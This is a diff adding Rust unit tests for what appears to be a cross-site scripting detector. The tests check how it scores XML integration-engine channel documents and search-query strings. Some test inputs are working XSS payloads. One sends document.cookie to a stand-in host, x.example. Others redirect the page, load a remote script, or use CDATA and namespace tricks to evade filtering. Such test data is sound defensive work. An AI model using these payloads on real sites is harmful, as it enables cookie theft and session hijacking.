@@ -386,3 +386,80 @@ fn handler_that_only_touches_its_own_element_does_not_block() {
         assert!(sure < 60, "{value}: {sure}");
     }
 }
+
+/// The body of a request that puts a channel of an integration engine.
+fn channel(script: &str) -> String {
+    format!(
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<channel version=\"4.4\"><name>检验 → EMR</name><!-- v2 -->\
+         <filter><rule>age &gt;= 18</rule></filter><step name=\"s1\"><script>{script}</script></step></channel>\n"
+    )
+}
+
+#[test]
+fn program_in_a_document_of_another_vocabulary_does_not_block() {
+    let body = Context::of(Place::BodyText);
+    for script in [
+        "msg['PID']['PID.5'] = msg['PID']['PID.5'].toString().trim();",
+        "for (i = 0; i &lt; n; i++) { channelMap.put('k' + i, v[i]); }",
+        "for (i = 0; i<n; i++) { channelMap.put('k' + i, v[i]); }",
+        "if (!msg['PID'].length()) { throw 'no PID'; }",
+        "return destinationSet.removeAll();",
+    ] {
+        let sure = confidence(Detector::Xss, channel(script).as_bytes(), body);
+        assert!(sure < 60, "{script}: {sure}");
+        // A field has no documents.
+        assert!(confidence(Detector::Xss, channel(script).as_bytes(), VALUE) >= 60, "{script}");
+    }
+}
+
+#[test]
+fn document_excuses_no_script_for_browsers() {
+    let plain = "<script>top.location='//x.example/'+a()</script>";
+    for body in [
+        channel("alert(1)"),
+        channel("document.location='//x.example?'+document.cookie"),
+        channel("a()").replace("</step>", &format!("<![CDATA[{plain}]]></step>")),
+        channel("a()").replace("</step>", &format!("<div>{plain}</div></step>")),
+        channel("a()").replace("<channel ", "<channel xmlns=\"http://www.w3.org/1999/xhtml\" "),
+        channel("a()").replace("<channel ", "<channel xmlns:s=\"http://www.w3.org/2000/svg\" "),
+        channel("a()").replace("<channel ", "<channel xmlns=\"http://www.w3.org/2000/s&#118;g\" "),
+        channel("a()").replace("<channel ", "<?xml-stylesheet href=\"a.xsl\"?><channel "),
+        channel("a()").replace("<channel ", "<!DOCTYPE channel><channel "),
+        channel("a()").replace("<channel ", "x<channel "),
+        channel("a()") + plain,
+        channel("<b/>") + plain,
+        format!("<?xml version=\"1.0\"?>{plain}"),
+        format!("<?xml version=\"1.0\"?><a><div>{plain}</div></a>"),
+        format!("<?xml version=\"1.0\"?><a>{plain}"),
+        "<a><script src=\"//x.example/a.js\"></script></a>".replace("<a>", "<a><n>").replace("</a>", "</n></a>"),
+        "<note><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">a.b()</x:script></note>".to_owned(),
+        "<note><n onload=\"alert(1)\"/><script>a()</script></note>".to_owned(),
+    ] {
+        let sure = confidence(Detector::Xss, body.as_bytes(), Context::of(Place::BodyText));
+        assert!(sure >= 80, "{body}: {sure}");
+    }
+}
+
+#[test]
+fn script_tag_as_a_search_word_does_not_block() {
+    for value in [
+        "<script setup> vue3",
+        "https://so.example/s?q=<script setup> vue3&ie=utf-8&src=home",
+        "https://so.example/s?wd=<script defer> async+区别&tn=site&idx=2",
+        "https://so.example/s?q=<script>&ie=utf-8",
+    ] {
+        let sure = confidence(Detector::Xss, value.as_bytes(), VALUE);
+        assert!((40..80).contains(&sure), "{value}: {sure}");
+    }
+    for value in [
+        "<script setup> vue3&a=1;alert(1)//",
+        "<script>x/*&a=*/;location='//x.example'//",
+        "<script>a&b==1;top.location='//x.example'",
+        "<script>a&b=>1;top.location='//x.example'",
+        "<script>a&&(location='//x.example')//",
+        "<script>a;x&y;location='//x.example'",
+        "<script setup src=//x.example>&a=1",
+    ] {
+        assert!(confidence(Detector::Xss, value.as_bytes(), VALUE) >= 80, "{value}");
+    }
+}
